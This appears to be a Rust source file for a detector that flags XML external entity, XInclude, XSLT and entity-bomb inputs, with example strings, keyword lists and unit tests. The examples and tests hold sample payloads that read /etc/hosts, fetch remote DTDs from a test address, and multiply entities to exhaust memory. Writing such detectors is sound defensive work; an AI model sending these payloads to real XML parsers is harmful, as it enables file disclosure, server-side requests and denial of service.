//! XML that makes its reader open files and addresses, or eat its memory.

use std::ops::Range;

use memchr::{memchr, memmem};

use crate::detect::{Detector, Examples, Found, Signal, Strength, Value, any_case::starts};

/// External entities, includes and entity bombs (CWE-611, CWE-776, CWE-827; XML 1.0 §4.2.2, XInclude 1.1 §3).
///
/// A document type that names a public definition, as XHTML does, passes; the definition must be where everybody
/// has it.
pub(super) struct Xxe;

/// Bytes of a declaration that are looked at.
const LOOK: usize = 512;

/// Longest name of an entity that is read.
const MAX_NAME: usize = 64;

/// Entities with a text after which no more is learned.
const MANY: u32 = 16;

impl Detector for Xxe {
    fn signal(&self) -> Signal {
        Signal::Xxe
    }

    fn summary(&self) -> &'static str {
        "XML external entity: a document that makes its reader open files or addresses, or multiply itself"
    }

    fn examples(&self) -> Examples {
        Examples {
            found: &[
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]><a>&b;</a>",
                "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://198.51.100.7/b.dtd'> %b;]>",
                "<!DOCTYPE a SYSTEM \"http://198.51.100.7/b.dtd\"><a/>",
                "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hosts\"/></a>",
                "<!DOCTYPE a [<!ENTITY b \"1\"><!ENTITY c \"&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;\">]><a>&d;</a>",
            ],
            passed: &[
                "<!DOCTYPE html>",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
                "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
                "<?xml version=\"1.0\"?><note><to>Ann</to></note>",
                "how do I declare an <!ENTITY> in a DTD?",
            ],
        }
    }

    fn literals(&self) -> &'static [&'static str] {
        &[
            "<!entity",
            "<!doctype",
            ":include",
            "xml-stylesheet",
            "<xsl:",
            "<![cdata[",
            "+adwaiq-",
            "<!attlist",
            "2001/xinclude",
            "&#x25;",
            "xlink:href",
            "[*a",
            "*a,*a",
            "<!notation",
            "<!element",
            "schemalocation",
            "&xxe;",
            "%xxe;",
            "%remote;",
        ]
    }

    fn examine(&self, value: &Value<'_>, found: &mut Found) {
        let text = value.bytes;
        let mut bomb = Bomb::default();
        for at in memchr::memchr_iter(b'<', text) {
            let rest = text.get(at + 1..).unwrap_or_default();
            let rest = rest.get(..rest.len().min(LOOK)).unwrap_or_default();
            match rest.first() {
                Some(b'!') => declaration(rest.get(1..).unwrap_or_default(), at, &mut bomb, found),
                Some(b'?') if starts(rest, b"?xml-stylesheet") => style_sheet(rest, at, found),
                Some(byte) if byte.is_ascii_alphabetic() => element(rest, at, found),
                _ => {}
            }
            if found.is_certain() {
                return;
            }
        }
        for name in [&b"&xxe;"[..], b"%xxe;", b"%remote;"] {
            if let Some(at) = memmem::find(text, name) {
                found.push(
                    "reference to an entity named after the attack",
                    Strength::Strong,
                    at..at + name.len(),
                );
            }
        }
        // The same bomb in YAML: `b: &b [*a,*a,*a]`.
        if let Some(at) = memmem::find(text, b"[*a,*a").or_else(|| memmem::find(text, b"[*a, *a"))
            && memmem::find(text, b"&a ").is_some()
        {
            found.push("references that multiply", Strength::Certain, at..at + 6);
        }
        // UTF-7: `<!` and a word.
        if let Some(at) = find_word(text, b"+adwaiq-")
            && (find_word(text, b"entity").is_some() || find_word(text, b"doctype").is_some())
        {
            found.push("declaration in UTF-7", Strength::Certain, at..at + 8);
        }
    }
}

/// What the entities with a text say together.
#[derive(Default)]
struct Bomb {
    entities: u32,
    /// Entities that consist of others.
    nested: u32,
    /// A document type was declared.
    doctype: bool,
}

/// Judges what stands behind `<!`.
fn declaration(rest: &[u8], at: usize, bomb: &mut Bomb, found: &mut Found) {
    if starts(rest, b"ENTITY") {
        entity(rest.get(6..).unwrap_or_default(), at..at + 8, bomb, found);
    } else if starts(rest, b"DOCTYPE") {
        bomb.doctype = true;
        doctype(rest.get(7..).unwrap_or_default(), at..at + 9, found);
    } else if starts(rest, b"ATTLIST") {
        if find_word(tag(rest), b"cdata").is_some() {
            found.push("attribute with a default value", Strength::Strong, at..at + 9);
        }
    } else if starts(rest, b"ELEMENT") {
        if find_word(tag(rest), b" any").is_some() {
            found.push("element that takes anything", Strength::Medium, at..at + 9);
            if bomb.doctype {
                found.push("in a document type of its own", Strength::Medium, at..at + 9);
            }
        }
    } else if starts(rest, b"NOTATION") {
        if external(rest) {
            found.push("external notation", Strength::Medium, at..at + 10);
            if memmem::find(tag(rest), b"://").is_some() {
                found.push("notation by its address", Strength::Medium, at..at + 10);
            }
        }
    } else if let Some(content) = rest.strip_prefix(b"[CDATA[") {
        // `<![CDATA[<]]>script`: markup that is put together when the sections are read.
        let content = memmem::find(content, b"]]>").and_then(|end| content.get(..end));
        let Some(content) = content else { return };
        let behind = rest.get(7 + content.len() + 3..).unwrap_or_default();
        let within_word = behind.starts_with(b"<![CDATA[")
            && content.last().is_some_and(u8::is_ascii_alphanumeric)
            && behind.get(9).is_some_and(u8::is_ascii_alphanumeric);
        if within_word || matches!(content.trim_ascii(), b"<" | b">" | b"</" | b"/>") {
            found.push("markup cut in pieces", Strength::Strong, at..at + 9);
        }
    }
}

/// `<!ENTITY name SYSTEM "url">`, `<!ENTITY % name "text">`.
fn entity(rest: &[u8], at: Range<usize>, bomb: &mut Bomb, found: &mut Found) {
    let trimmed = rest.trim_ascii_start();
    if trimmed.len() == rest.len() && !rest.starts_with(b"%") {
        return;
    }
    let hidden = [&b"&#x25;"[..], b"&#37;", b"&#x26;#x25;", b"&#38;#37;"];
    let unprefixed =
        trimmed.strip_prefix(b"%").or_else(|| hidden.iter().find_map(|sign| trimmed.strip_prefix(*sign)));
    let parameter = unprefixed.is_some();
    let named = unprefixed.unwrap_or(trimmed).trim_ascii_start();
    let name = named
        .iter()
        .take(MAX_NAME)
        .take_while(|byte| !byte.is_ascii_whitespace() && !matches!(byte, b'>' | b'"' | b'\''))
        .count();
    let (name, content) = named.split_at_checked(name).unwrap_or_default();
    let content = content.trim_ascii_start();
    if name.is_empty() {
        return;
    }
    if starts(content, b"SYSTEM") || starts(content, b"PUBLIC") {
        if external(content) {
            found.push("external entity", Strength::Certain, at);
        }
        return;
    }
    if !matches!(content.first(), Some(b'"' | b'\'' | b'&')) {
        return;
    }
    bomb.entities += 1;
    if bomb.entities > MANY {
        return;
    }
    let references = upto(content, b'>').windows(2).filter(|pair| pair[0] == b'&' && pair[1] != b'#').count();
    bomb.nested += u32::from(references >= 2);
    if parameter {
        found.push("parameter entity", Strength::Strong, at.clone());
        if find_word(content, b"entity").is_some() {
            found.push("entity within an entity", Strength::Medium, at);
        }
    } else if bomb.nested >= 2 {
        found.push("entities that multiply", Strength::Certain, at);
    } else {
        found.push("entity with a text", Strength::Strong, at);
    }
}

/// `<!DOCTYPE name SYSTEM "url" [`.
fn doctype(rest: &[u8], at: Range<usize>, found: &mut Found) {
    let head =
        rest.get(..rest.iter().position(|byte| matches!(byte, b'[' | b'>' | b'<')).unwrap_or(rest.len()));
    let Some(head) = head else { return };
    let url = match (find_word(head, b" system"), find_word(head, b" public")) {
        (Some(system), _) => quoted(head.get(system + 7..).unwrap_or_default()).map(|(url, _)| url),
        (None, Some(public)) => {
            let Some((public, rest)) = quoted(head.get(public + 7..).unwrap_or_default()) else { return };
            match quoted(rest) {
                Some((url, _)) => Some(url),
                // The name alone, as HTML 4 allows.
                None if public.contains(&b':') => Some(public),
                None => None,
            }
        }
        // Misspelt, or without the word.
        (None, None) => quoted(head).map(|(url, _)| url).filter(|url| memmem::find(url, b"://").is_some()),
    };
    let Some(url) = url else { return };
    if !is_public_definition(url) {
        found.push("document type from elsewhere", Strength::Strong, at.clone());
        if url.contains(&b':') || url.starts_with(b"//") || url.starts_with(b"/") {
            found.push("document type by its address", Strength::Medium, at);
        }
    }
}

/// Hosts whose definitions documents name.
fn is_public_definition(url: &[u8]) -> bool {
    const HOSTS: [&[u8]; 22] = [
        b"www.w3.org/",
        b"w3.org/",
        b"www.apple.com/dtds/",
        b"java.sun.com/",
        b"xmlns.jcp.org/",
        b"mybatis.org/",
        b"www.mybatis.org/",
        b"ibatis.apache.org/",
        b"www.hibernate.org/",
        b"hibernate.org/",
        b"hibernate.sourceforge.net/",
        b"www.springframework.org/",
        b"struts.apache.org/",
        b"jakarta.apache.org/",
        b"logging.apache.org/",
        b"tapestry.apache.org/",
        b"www.oasis-open.org/",
        b"docbook.org/",
        b"checkstyle.org/",
        b"www.puppycrawl.com/",
        b"www.web3d.org/",
        b"openoffice.org/",
    ];
    let url = url.to_ascii_lowercase();
    let Some(rest) = url.strip_prefix(b"http://").or(url.strip_prefix(b"https://")) else {
        return url == b"about:legacy-compat" || url.is_empty() || is_plain_file(&url);
    };
    HOSTS.iter().any(|host| rest.starts_with(host))
}

/// A definition beside the document: `note.dtd`.
fn is_plain_file(url: &[u8]) -> bool {
    url.ends_with(b".dtd") && !url.iter().any(|byte| matches!(byte, b'/' | b'\\' | b':' | b'%'))
}

/// Whether a `SYSTEM` or `PUBLIC` identifier follows.
fn external(content: &[u8]) -> bool {
    tag(content).iter().any(|byte| matches!(byte, b'"' | b'\''))
}

fn style_sheet(rest: &[u8], at: usize, found: &mut Found) {
    let tag = tag(rest);
    let Some(href) = find_word(tag, b"href") else { return };
    let Some((url, _)) = quoted(tag.get(href..).unwrap_or_default()) else { return };
    let lower = url.get(..url.len().min(24)).unwrap_or_default().to_ascii_lowercase();
    if lower.starts_with(b"//")
        || [&b"http:"[..], b"https:", b"ftp:", b"file:", b"data:"].iter().any(|s| lower.starts_with(s))
    {
        found.push("style sheet from elsewhere", Strength::Strong, at..at + 16);
        if find_word(tag, b"xsl").is_some() {
            found.push("style sheet that transforms", Strength::Medium, at..at + 16);
        }
    }
}

/// Elements of XInclude and XSLT.
fn element(rest: &[u8], at: usize, found: &mut Found) {
    let len = rest
        .iter()
        .take(40)
        .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b':' | b'-' | b'_'))
        .count();
    let (name, rest) = rest.split_at_checked(len).unwrap_or_default();
    if !name.contains(&b':') && !rest.first().is_some_and(u8::is_ascii_whitespace) {
        return;
    }
    let tag = tag(rest);
    if memchr::memchr(b':', tag).is_none() && !name.contains(&b':') {
        return;
    }
    let assigns = memchr(b'=', tag).is_some();
    if assigns && let Some(at_link) = find_word(tag, b"xlink:href") {
        let url = quoted(tag.get(at_link..).unwrap_or_default()).map(|(url, _)| url).unwrap_or_default();
        let opens = [&b"file:"[..], b"expect:", b"php:", b"jar:", b"netdoc:", b"ftp:", b"gopher:", b"text:"];
        if opens.iter().any(|scheme| starts(url.trim_ascii_start(), scheme)) {
            found.push("graphic that opens a file", Strength::Strong, at..at + 1 + len);
        }
    }
    if assigns && let Some(at_schema) = find_word(tag, b"schemalocation") {
        schema(tag.get(at_schema..).unwrap_or_default(), at..at + 1 + len, found);
    }
    let Some(colon) = memchr(b':', name) else { return };
    let (prefix, local) = (name.get(..colon).unwrap_or_default(), name.get(colon + 1..).unwrap_or_default());
    let at = at..at + 1 + len;
    if local.eq_ignore_ascii_case(b"include")
        && (prefix.eq_ignore_ascii_case(b"xi") || prefix.eq_ignore_ascii_case(b"xinclude"))
    {
        if find_word(tag, b"href").is_some() {
            found.push("include of a file or an address", Strength::Certain, at);
        }
    } else if starts(prefix, b"xsl") || prefix.eq_ignore_ascii_case(b"msxsl") {
        let reads = memchr::memchr2(b'(', b':', tag).is_some()
            && memchr::memchr2(b'"', b'\'', tag).is_some()
            && [
                &b"document("[..],
                b"unparsed-text(",
                b"system-property(",
                b"php:function",
                b"java:",
                b"exslt.org",
                b"rt:exec",
                b"ob:tostring",
                b"exsl:document",
                b"file:",
                b"runtime",
            ]
            .iter()
            .any(|word| find_word(tag, word).is_some());
        let loads = matches!(local, b"include" | b"import") && find_word(tag, b"://").is_some();
        if reads
            || loads
            || local.eq_ignore_ascii_case(b"script")
            || local.eq_ignore_ascii_case(b"result-document")
        {
            found.push("transformation that reads or runs", Strength::Strong, at);
        }
    }
}

/// `xsi:schemaLocation="http://a/ http://b/x.xsd"`: the schema lies on another host than the name it describes.
fn schema(attribute: &[u8], at: Range<usize>, found: &mut Found) {
    let Some((pairs, _)) = quoted(attribute) else { return };
    let mut words = pairs.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(16);
    while let Some(name) = words.next() {
        let Some(place) = words.next() else { return };
        let (Some(from), Some(to)) = (host(name), host(place)) else { continue };
        // `http://java.sun.com/` and `https://www.oracle.com/`: the last label of many is the same.
        let known = [
            &b"w3.org"[..],
            b"apache.org",
            b"oracle.com",
            b"sun.com",
            b"jcp.org",
            b"springframework.org",
            b"xmlsoap.org",
            b"github",
        ]
        .iter()
        .any(|known| memmem::find(to, known).is_some());
        if !from.eq_ignore_ascii_case(to) && !known {
            found.push("schema from elsewhere", Strength::Strong, at);
            return;
        }
    }
}

fn host(url: &[u8]) -> Option<&[u8]> {
    let start = memmem::find(url.get(..url.len().min(12))?, b"://")?;
    let host = url.get(start + 3..)?;
    let end = host.iter().position(|byte| matches!(byte, b'/' | b':' | b'?' | b'#')).unwrap_or(host.len());
    let host = host.get(..end)?;
    Some(host.strip_prefix(b"www.").unwrap_or(host))
}

/// The first quoted text, and what follows it. Quotes may be doubled, as in CSV.
fn quoted(text: &[u8]) -> Option<(&[u8], &[u8])> {
    let start = text.iter().position(|byte| matches!(byte, b'"' | b'\''))?;
    let quote = *text.get(start)?;
    let rest = text.get(start + 1..)?;
    let rest = if rest.first() == Some(&quote)
        && rest.get(1).is_some_and(|b| !b.is_ascii_whitespace() && *b != b'>')
    {
        rest.get(1..)?
    } else {
        rest
    };
    match memchr(quote, rest) {
        Some(end) => Some((rest.get(..end)?, rest.get(end + 1..)?)),
        None => Some((rest, &[])),
    }
}

/// The inside of a tag, up to its end or the next one.
fn tag(text: &[u8]) -> &[u8] {
    memchr::memchr2(b'>', b'<', text).and_then(|end| text.get(..end)).unwrap_or(text)
}

fn upto(text: &[u8], end: u8) -> &[u8] {
    memchr(end, text).and_then(|end| text.get(..end)).unwrap_or(text)
}

/// Where `word` stands in `text`, in any case.
fn find_word(text: &[u8], word: &[u8]) -> Option<usize> {
    let first = *word.first()?;
    memchr::memchr2_iter(first.to_ascii_lowercase(), first.to_ascii_uppercase(), text)
        .find(|at| text.get(*at..).is_some_and(|text| starts(text, word)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::tests::score_of;

    fn score(text: &str) -> u32 {
        score_of(&Xxe, text)
    }

    #[test]
    fn finds_entities_in_any_spelling() {
        for text in [
            "<!entity x system \"a\">",
            "<!ENTITY\n%\tx\nPUBLIC 'a' 'http://b'>",
            "<!ENTITY &#x25; x SYSTEM 'http://b/'>",
            "\"<!DOCTYPE a [<!ENTITY b SYSTEM \"\"file:///c\"\">]>\"",
            "<!DOCTYPE a [<!ENTITY b 'text'>]><a>&b;</a>",
            "<!ENTITY % x \"<!ENTITY y 'z'>\">",
            "<?xml-stylesheet type='text/xsl' href='http://198.51.100.7/x.xsl'?>",
            "<xsl:value-of select=\"document('/etc/hosts')\"/>",
            "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
            "<![CDATA[<]]>script<![CDATA[>]]>",
            "+ADwAIQ-ENTITY a SYSTEM +ACI-http://198.51.100.7+ACI +AD4",
            "<!DOCTYPE a PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://198.51.100.7/x\">",
            "<!DOCTYPE a SYSTEM 'file:///c'>",
        ] {
            assert!(score(text) >= 5, "{text}");
        }
    }

    #[test]
    fn documents_pass() {
        for text in [
            "<!doctype html><html lang=\"en\">",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
            "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
            "<!DOCTYPE note SYSTEM \"note.dtd\">",
            "<?xml-stylesheet type=\"text/css\" href=\"style.css\"?>",
            "<![CDATA[ a < b && c > d ]]>",
            "<xsl:for-each select=\"catalog/cd\">",
            "<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"/>",
            "<jsp:include page=\"head.jsp\"/>",
            "<!ENTITY",
            "<!DOCTYPE",
            "<!DOCTYPE a SYSTEM",
            "<!",
        ] {
            assert_eq!(score(text), 0, "{text}");
        }
    }
}
